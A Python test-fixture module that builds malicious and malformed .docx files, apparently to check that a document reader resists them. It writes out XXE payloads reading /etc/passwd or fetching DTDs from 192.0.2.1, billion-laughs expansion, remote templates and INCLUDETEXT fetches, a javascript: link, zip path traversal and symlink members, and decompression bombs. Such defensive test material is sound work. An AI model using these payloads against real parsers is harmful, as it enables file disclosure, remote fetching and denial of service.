"""Word documents meant to do harm, or come to harm: a name → how its bytes are made."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from zipfile import ZIP_DEFLATED, ZIP_LZMA

from tests.interviews.reading.zips import Entry, link, raw_zip, zip_of

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SAID = "<w:p><w:r><w:t>Frage: Wie geht es?</w:t></w:r></w:p><w:p><w:r><w:t>Antwort: Gut.</w:t></w:r></w:p>"

MAIN = "word/document.xml"
TYPES = "[Content_Types].xml"


def types(main: str = MAIN_TYPE) -> str:
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/{MAIN}" ContentType="{main}"/><Override PartName="/word/styles.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>'
    )


def rels(*targets: tuple[str, str, str]) -> str:
    """(kind, target, mode): "image", "http://…", "External"."""
    inner = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(targets, 1)
    )
    return f'{HEAD}<Relationships xmlns="{RELS}">{inner}</Relationships>'


def document(body: str = SAID, before: str = "") -> str:
    return f"{HEAD}{before}<w:document {W} {R}><w:body>{body}</w:body></w:document>"


def parts(body: str = SAID, **more: str | bytes) -> dict[str, bytes]:
    """The members of a small document; `more` by their names, "/" written as "__" and "." as "_dot_"."""
    written: dict[str, str | bytes] = {
        TYPES: types(),
        "_rels/.rels": rels(("officeDocument", MAIN, "Internal")),
        MAIN: document(body),
    }
    written |= {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    return {name: data.encode() if isinstance(data, str) else data for name, data in written.items()}


def with_part(name: str, data: str | bytes, body: str = SAID) -> bytes:
    return zip_of({**parts(body), name: data.encode() if isinstance(data, str) else data})


def with_rels(*targets: tuple[str, str, str]) -> bytes:
    return with_part("word/_rels/document.xml.rels", rels(*targets))


def with_styles(styles: str) -> bytes:
    body = '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>Frage: Wie geht es?</w:t></w:r></w:p>'
    members = parts(body)
    members["word/_rels/document.xml.rels"] = rels(("styles", "styles.xml", "Internal")).encode()
    return zip_of({**members, "word/styles.xml": f"{HEAD}<w:styles {W}>{styles}</w:styles>".encode()})


def with_lists(level: str, items: int = 3) -> bytes:
    """A list whose only level is said so."""
    listed = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    )
    members = parts(listed * items)
    members["word/_rels/document.xml.rels"] = rels(("numbering", "numbering.xml", "Internal")).encode()
    kind = f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">{level}</w:lvl></w:abstractNum>'
    named = '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    members["word/numbering.xml"] = f"{HEAD}<w:numbering {W}>{kind}{named}</w:numbering>".encode()
    return zip_of(members)


def body(inner: str) -> bytes:
    return zip_of(parts(inner))


def raw(*entries: Entry) -> bytes:
    return raw_zip([*(Entry(name, data) for name, data in parts().items()), *entries])


def paragraph(inner: str, properties: str = "") -> str:
    return f"<w:p><w:r>{properties}<w:t>{inner}</w:t></w:r></w:p>"


def nested(tag: str, depth: int, inner: str = SAID) -> str:
    return f"<w:{tag}>" * depth + inner + f"</w:{tag}>" * depth


def png(side: int) -> bytes:
    """A white picture of 8 bits a point; 13 000 a side are 20 KB here and 800 MB in memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * side
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">2L5B", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def laughs(levels: int = 9) -> str:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, levels))
    return f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'


def changed(data: bytes, place: int, value: int) -> bytes:
    return data[:place] + bytes([value]) + data[place + 1 :]


PASSWD = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FAR = '<!DOCTYPE d SYSTEM "http://192.0.2.1/d.dtd">'
PARAMETER = '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>'
GOOD = parts()

DECIMAL = '<w:numFmt w:val="decimal"/>'
DOCUMENTS: dict[str, Callable[[], bytes]] = {
    # lists
    "a list from a number of 10 000 digits": lambda: with_lists(
        f'<w:start w:val="{"9" * 10_000}"/>{DECIMAL}<w:lvlText w:val="%1."/>'
    ),
    "a list whose mark has a megabyte": lambda: with_lists(f'{DECIMAL}<w:lvlText w:val="%1{"a" * 10**6}"/>', 10_000),
    "a list of controls": lambda: with_lists(f'{DECIMAL}<w:lvlText w:val="%1&#x202e;&#10;"/>'),
    "a list that is no list": lambda: with_lists("<w:lvl><w:lvl/></w:lvl>"),
    "a list of another kind of part": lambda: with_rels(("numbering", "document.xml", "Internal")),
    "a list that is not there": lambda: with_rels(("numbering", "numbering.xml", "Internal")),
    "a small one": lambda: zip_of(GOOD),
    # size
    "200 MB of nothing in a picture": lambda: with_part("word/media/a.png", bytes(200 * 2**20)),
    "90 MB of paragraphs": lambda: body(paragraph("a") * (90 * 2**20 // len(paragraph("a")))),
    "90 MB of one tag": lambda: body("<w:p>" + "<w:r/>" * 15_000_000 + "</w:p>"),
    "20 MB of one tag": lambda: body("<w:p>" + "<w:r/>" * 3_300_000 + "</w:p>"),
    "a picture of 13 000 points a side": lambda: with_part("word/media/a.png", png(13_000)),
    "a hundred large pictures": lambda: zip_of(
        {**GOOD, **{f"word/media/{at}.png": bytes(900_000) for at in range(100)}}
    ),
    "1 001 members": lambda: zip_of({**GOOD, **{f"word/{at}.bin": b"" for at in range(998)}}),
    "70 000 members": lambda: raw(*(Entry(f"{at}") for at in range(65_000))),
    "a list of members longer than its members": lambda: raw_zip(
        [Entry(f"{'n' * 60_000}{at}") for at in range(40)],
    ),
    "a text over a million characters": lambda: body(paragraph("Ja. " * 260_000)),
    "a text node of 12 MB": lambda: body(paragraph("a" * 12_000_000)),
    "a hundred thousand empty paragraphs": lambda: body("<w:p/>" * 100_000 + SAID),
    "a hundred thousand runs": lambda: body("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 100_000 + "</w:p>"),
    # entities and links
    "entities that grow": lambda: zip_of({**GOOD, MAIN: document(paragraph("&l8;"), laughs()).encode()}),
    "an entity from the disk": lambda: zip_of({**GOOD, MAIN: document(paragraph("&x;"), PASSWD).encode()}),
    "a type from far away": lambda: zip_of({**GOOD, MAIN: document(before=FAR).encode()}),
    "an entity of the type": lambda: zip_of({**GOOD, MAIN: document(before=PARAMETER).encode()}),
    "a type in UTF-16": lambda: zip_of(
        {**GOOD, MAIN: document(before=laughs()).replace("UTF-8", "UTF-16").encode("utf-16")}
    ),
    "a type in UTF-7": lambda: zip_of(
        {**GOOD, MAIN: document(before=laughs()).replace("UTF-8", "UTF-7").encode("utf-7")}
    ),
    "a type in the relations": lambda: zip_of({**GOOD, "_rels/.rels": (laughs() + rels()).encode()}),
    "a type in the list of types": lambda: zip_of({**GOOD, TYPES: types().replace("?>", f"?>{laughs()}").encode()}),
    "a type in the styles": lambda: with_part("word/styles.xml", f"{laughs()}<w:styles {W}/>"),
    "a type in a part nobody reads": lambda: with_part("customXml/item1.xml", f"{PASSWD}<a>&x;</a>"),
    "a picture from far away": lambda: with_rels(("image", "http://192.0.2.1/a.png", "External")),
    "a template from far away": lambda: with_rels(("attachedTemplate", "http://192.0.2.1/a.dotm", "External")),
    "a file of another machine": lambda: with_rels(("image", r"\\192.0.2.1\a", "External")),
    "a foreign chunk": lambda: with_part("word/chunk.html", "<script>", SAID + '<w:altChunk r:id="rId1"/>'),
    "a link that is a script": lambda: zip_of(
        {
            **parts(f'<w:p><w:hyperlink r:id="rId1">{paragraph("Frage: Ja?")[5:-6]}</w:hyperlink></w:p>'),
            "word/_rels/document.xml.rels": rels(("hyperlink", "javascript:alert(1)", "External")).encode(),
        }
    ),
    "a field that fetches": lambda: body(
        "<w:p><w:r><w:instrText>INCLUDETEXT http://192.0.2.1/a</w:instrText></w:r></w:p>" + SAID
    ),
    "a relation outside": lambda: with_rels(("image", "../../../../etc/passwd", "Internal")),
    "a relation to itself": lambda: with_rels(("subDocument", "document.xml", "Internal")),
    "a relation to nothing": lambda: with_rels(("header", "header9.xml", "Internal")),
    "a thousand relations": lambda: with_rels(*[("image", "http://192.0.2.1/a.png", "External")] * 1000),
    # damage
    "nothing": lambda: b"",
    "four bytes": lambda: b"PK\x03\x04",
    "cut in half": lambda: (data := zip_of(GOOD))[: len(data) // 2],
    "without its last byte": lambda: zip_of(GOOD)[:-1],
    "without its first byte": lambda: zip_of(GOOD)[1:],
    "with something before it": lambda: b"#!/bin/sh\n" + zip_of(GOOD),
    "with something after it": lambda: zip_of(GOOD) + b"x" * 70_000,
    "a byte changed": lambda: changed(zip_of(GOOD, packed=False), 1200, 0),
    "a sum that is wrong": lambda: raw(Entry("word/styles.xml", b"<a/>", checksum=1)),
    "no list of types": lambda: zip_of({MAIN: GOOD[MAIN]}),
    "a list of types that is none": lambda: zip_of({**GOOD, TYPES: b"<Types"}),
    "no main part": lambda: zip_of({name: data for name, data in GOOD.items() if name != MAIN}),
    "a main part that ends early": lambda: zip_of({**GOOD, MAIN: GOOD[MAIN][:-20]}),
    "a main part of noughts": lambda: zip_of({**GOOD, MAIN: bytes(1000)}),
    "a main part in a wrong encoding": lambda: zip_of({**GOOD, MAIN: document(paragraph("K\xf6ln")).encode("cp1252")}),
    "another root": lambda: zip_of({**GOOD, MAIN: b"<a/>"}),
    "no body": lambda: zip_of({**GOOD, MAIN: f"<w:document {W}/>".encode()}),
    "an empty body": lambda: body(""),
    "a character that may not be": lambda: body(paragraph("a&#0;b")),
    "half a character": lambda: body(paragraph("a&#xD800;b")),
    # what it says is something else
    "a text": lambda: b"Frage: Wie geht es?",
    "an old document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "a PDF": lambda: b"%PDF-1.7\n",
    "a table": lambda: zip_of(
        {**GOOD, TYPES: types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml").encode()}
    ),
    "with macros": lambda: zip_of(
        {**GOOD, TYPES: types("application/vnd.ms-word.document.macroEnabled.main+xml").encode()}
    ),
    "an open document": lambda: zip_of(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}
    ),
    "an archive": lambda: zip_of({"a.txt": b"Frage: Ja?"}),
    # depth and circles
    "a hundred boxes in boxes": lambda: body(nested("sdt", 100)),
    "three hundred boxes in boxes": lambda: body(nested("sdt", 300)),
    "a hundred thousand boxes in boxes": lambda: body(nested("sdt", 100_000)),
    "sixty tables in tables": lambda: body("<w:tbl><w:tr><w:tc>" * 60 + SAID + "</w:tc></w:tr></w:tbl>" * 60),
    "paragraphs in paragraphs": lambda: body("<w:p><w:r>" * 100 + "<w:t>Ja</w:t>" + "</w:r></w:p>" * 100),
    "a style that rests on itself": lambda: with_styles(
        '<w:style w:styleId="S0"><w:name w:val="A"/><w:basedOn w:val="S0"/></w:style>'
    ),
    "styles in a circle": lambda: with_styles(
        '<w:style w:styleId="S0"><w:basedOn w:val="S1"/></w:style>'
        '<w:style w:styleId="S1"><w:basedOn w:val="S0"/></w:style>'
    ),
    "ten thousand styles in a row": lambda: with_styles(
        "".join(f'<w:style w:styleId="S{at}"><w:basedOn w:val="S{at + 1}"/></w:style>' for at in range(10_000))
    ),
    "a heading of level 999999999999": lambda: with_styles(
        '<w:style w:styleId="S0"><w:name w:val="heading 999999999999"/></w:style>'
    ),
    "a hundred thousand attributes": lambda: body(
        "<w:p " + " ".join(f'w:a{at}="1"' for at in range(100_000)) + "/>" + SAID
    ),
    "fifty thousand names of rooms": lambda: body(
        "<w:p " + " ".join(f'xmlns:a{at}="b{at}"' for at in range(50_000)) + "/>" + SAID
    ),
    "a remark of 5 MB": lambda: body(f"<!--{'a ' * 2_500_000}-->" + SAID),
    # what is not to be read
    "only removed text": lambda: body("<w:p><w:del><w:r><w:t>Nein</w:t></w:r></w:del></w:p>"),
    "only hidden text": lambda: body(paragraph("Nein", "<w:rPr><w:vanish/></w:rPr>")),
    "a box that stands twice": lambda: body(
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<mc:Choice>{SAID}</mc:Choice><mc:Fallback>{SAID}</mc:Fallback></mc:AlternateContent></w:r></w:p>"
    ),
    "a thousand accents": lambda: body(paragraph("a" + "\u0301\u0323" * 500)),
    "overrides of direction": lambda: body(paragraph("Frage: \u202eaj\u202c?")),
    # the members of the package
    "a member outside": lambda: raw(Entry("../../a.xml", b"<a/>")),
    "a member from the root": lambda: raw(Entry("/etc/cron.d/a", b"")),
    "a member of a drive": lambda: raw(Entry("C:/a.xml", b"")),
    "a member that is a link": lambda: raw(link("word/media/a.png", "/etc/passwd")),
    "a member twice": lambda: raw(Entry(MAIN, document(paragraph("anders")).encode())),
    "a member with a password": lambda: raw(Entry("word/a.xml", b"x", flags=1)),
    "a member packed otherwise": lambda: raw(Entry("word/a.xml", b"x", method=ZIP_LZMA)),
    "a member that says less": lambda: raw(Entry("word/a.xml", b"<a>" + b" " * 10**7, method=ZIP_DEFLATED, size=3)),
    "a member that says more": lambda: raw(Entry("word/a.xml", b"<a/>", method=ZIP_DEFLATED, size=4000)),
    "a member that says 4 GB": lambda: raw(Entry("word/a.xml", b"<a/>", size=0xFFFFFFF0)),
    "members that share their bytes": lambda: raw(*(Entry(f"word/{at}.xml", b"x" * 2000, at=0) for at in range(9))),
}
